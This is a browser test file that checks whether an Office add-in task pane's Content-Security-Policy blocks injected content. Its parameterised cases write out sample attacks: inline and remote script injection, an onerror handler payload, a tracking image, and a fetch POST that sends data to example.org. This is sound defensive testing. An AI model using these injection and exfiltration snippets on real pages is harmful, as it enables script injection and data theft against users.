/** What the pane's Content-Security-Policy lets in and keeps out, in a real browser with the real office.js. */
import type { FrameLocator, Page } from "playwright-core";
import { openWorkbench } from "./browser";

interface Watched {
  readonly page: Page;
  readonly pane: FrameLocator;
  /** Every address the pane or the workbench asked for. */
  readonly asked: readonly string[];
  /** What the browser refused: directive and address. */
  readonly refused: () => Promise<readonly string[]>;
}

async function watchedPane(): Promise<Watched> {
  const page = await openWorkbench({ sample: "township.xlsx", reducedMotion: "reduce" });
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const pane = page.frameLocator("#pane-frame");
  await pane.getByRole("heading", { level: 2, name: "读到的内容" }).waitFor();
  await pane.locator("html").evaluate((html) => {
    const refused: string[] = [];
    Object.assign(html.ownerDocument.defaultView!, { refused });
    html.ownerDocument.addEventListener("securitypolicyviolation", (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  const refused = (): Promise<readonly string[]> => pane.locator("html").evaluate((html) => (html.ownerDocument.defaultView as unknown as { refused: string[] }).refused);
  return { page, pane, asked, refused };
}

test("from reading to written scales and into the tools nothing is refused, and nobody outside is asked", async () => {
  const { page, pane, asked, refused } = await watchedPane();
  await pane.getByRole("button", { name: "一键生成考核量表" }).click();
  await pane.getByRole("heading", { name: "已写好 13 张考核量表" }).waitFor();
  for (const step of [/^检查/, /^计分/]) {
    await pane.getByRole("button", { name: step }).first().click();
    await pane.getByRole("heading", { level: 1 }).waitFor();
  }
  await pane.getByRole("button", { name: "工具" }).click();
  await pane.getByRole("heading", { level: 1 }).waitFor();
  expect(await refused()).toEqual([]);
  expect(asked.filter((address) => !/^(?:http:\/\/localhost:3000\/|data:|blob:)/.test(address))).toEqual([]);
  await page.close();
});

let attacked: Watched | null = null;

test.each<readonly [string, string, RegExp]>([
  ["a script in the page", 'const s = document.createElement("script"); s.textContent = "globalThis.hurt = 1"; document.body.append(s);', /^script-src-elem inline$/],
  ["a script from elsewhere", 'const s = document.createElement("script"); s.src = "https://example.org/hurt.js"; document.body.append(s);', /^script-src-elem https:\/\/example\.org/],
  ["a style without the nonce", 'const s = document.createElement("style"); s.textContent = "body { display: none }"; document.body.append(s);', /^style-src-elem inline$/],
  ["a style attribute", 'const d = document.createElement("div"); d.innerHTML = \'<p style="color: red">\'; document.body.append(d);', /^style-src-attr inline$/],
  ["a picture from elsewhere", 'const i = new Image(); i.src = "https://example.org/spy.png"; document.body.append(i);', /^img-src https:\/\/example\.org/],
  ["telling somebody else", 'void fetch("https://example.org/report", { method: "POST", body: "points" }).catch(() => 0);', /^connect-src https:\/\/example\.org/],
  ["an event handler in the page", 'const d = document.createElement("div"); d.innerHTML = \'<img src="data:," onerror="globalThis.hurt = 1">\'; document.body.append(d);', /^script-src-attr inline$/],
])("%s is refused", async (_what, code, expected) => {
  attacked ??= await watchedPane();
  const { page, pane, refused } = attacked;
  await page.frames().find((frame) => frame.url().includes("taskpane"))!.evaluate(`{ ${code} }`);
  await page.waitForTimeout(300);
  expect(await refused()).toContainEqual(expect.stringMatching(expected));
  expect(await pane.locator("html").evaluate((html) => "hurt" in html.ownerDocument.defaultView!)).toBe(false);
});
